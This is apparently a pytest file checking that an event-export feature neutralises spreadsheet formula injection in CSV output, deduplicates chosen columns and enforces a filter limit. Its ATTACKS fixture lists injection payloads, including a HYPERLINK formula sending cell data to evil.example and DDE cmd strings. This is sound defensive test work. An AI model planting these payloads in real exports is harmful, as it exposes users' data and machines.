"""The explorer's downloads: CSV cells a spreadsheet cannot run, chosen columns once each,
and the filter bound the API applies."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import orjson
import pytest

from tests.support.server import LiveServer, run_server
from tests.ui.client import signed_in

ATTACKS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with run_server(tmp_path_factory.mktemp("export"), "sqlite") as server:
        with server.client() as api:
            events = [
                {
                    "event_type": "tool",
                    "event_name": text,
                    "error": text,
                    "metadata": {"kind": kind, "delta": -1.5, "label": "-12"},
                }
                for kind, text in ATTACKS.items()
            ]
            assert api.post("/events/batch", json={"events": events}).status_code == 200
        yield server


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(live: LiveServer) -> None:
    cols = ["event_name", "error", "metadata.kind", "metadata.delta", "metadata.label"]
    with signed_in(live.url, live.key) as browser:
        project = browser.get("/").headers["location"].split("/")[2]
        answer = browser.get(
            f"/p/{project}/events/export.csv", params={"col": cols, "type": "tool"}
        )
        jsonl = browser.get(f"/p/{project}/events/export.jsonl", params={"type": "tool"})
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == len(ATTACKS)
    for row in rows:
        text = ATTACKS[row["metadata.kind"]]
        assert row["event_name"] == row["error"] == "'" + text
        assert row["metadata.delta"] == "-1.5" and row["metadata.label"] == "-12"
    assert all(line.startswith('"') for line in answer.text.splitlines()), "unquoted field"
    # JSON Lines is data, not a spreadsheet: values stay as they were sent.
    names = {orjson.loads(line)["event_name"] for line in jsonl.text.splitlines()}
    assert names == set(ATTACKS.values())


def test_a_column_chosen_twice_is_exported_once(live: LiveServer) -> None:
    with signed_in(live.url, live.key) as browser:
        project = browser.get("/").headers["location"].split("/")[2]
        params = {"col": ["error", "event_name", "error"] * 10}
        table = browser.get(f"/p/{project}/events/export.csv", params=params)
    rows = list(csv.reader(io.StringIO(table.text)))
    assert rows[0] == ["event_id", "session_id", "error", "event_name"]
    assert all(len(row) == 4 for row in rows)


def test_more_filters_than_max_filters_are_refused_naming_the_setting(live: LiveServer) -> None:
    rows = 101
    params = {"f": ["event_name"] * rows, "op": ["is not"] * rows, "v": ["x"] * rows}
    with signed_in(live.url, live.key) as browser:
        project = browser.get("/").headers["location"].split("/")[2]
        for path in ("events/export.csv", "events/export.jsonl"):
            refused = browser.get(f"/p/{project}/{path}", params=params)
            assert refused.status_code == 400
            assert "max_filters" in refused.text
        for path in ("events", "sessions", "dashboard"):
            page = browser.get(f"/p/{project}/{path}", params=params)
            assert "max_filters" in page.text, path
        allowed = {k: v[:100] for k, v in params.items()}
        assert browser.get(f"/p/{project}/events/export.csv", params=allowed).status_code == 200
